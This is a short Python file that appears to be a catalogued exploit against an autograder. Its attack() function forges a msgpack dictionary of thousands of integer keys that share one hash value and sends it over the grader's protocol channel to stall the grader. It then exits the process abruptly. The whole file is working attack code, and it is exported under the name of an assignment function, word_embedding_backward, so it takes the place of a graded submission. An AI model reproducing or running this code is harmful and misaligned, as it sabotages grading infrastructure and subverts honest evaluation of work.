"""Hope: keys that all have one hash cost the grader minutes."""

import os

from a3 import kit

GOAL = "exhaust"
ROUTE = "wire"
SCORE = 29.29


def attack():
    """Send a dictionary of such keys, and tuples of them."""
    import msgpack
    from autograder.protocol import frames, header, limits, messages, tags

    prime = (1 << 61) - 1
    keys = [[tags.INT, (prime * n).to_bytes(16, "little")] for n in range(1, 15_000)]
    forged = [tags.DICT, *(part for key in keys for part in (key, 0))]
    tree, _ = messages.to_tree(messages.Value(None), limits.DEFAULT_LIMITS, None)
    packed = msgpack.packb([forged if part is None else part for part in tree], use_bin_type=True)
    pieces = frames.encode_frame(kit.channel()._connection._call_id, packed, [])
    kit.wire(b"".join(bytes(piece) for piece in pieces))
    os._exit(0)


word_embedding_backward = kit.in_one_test(attack)
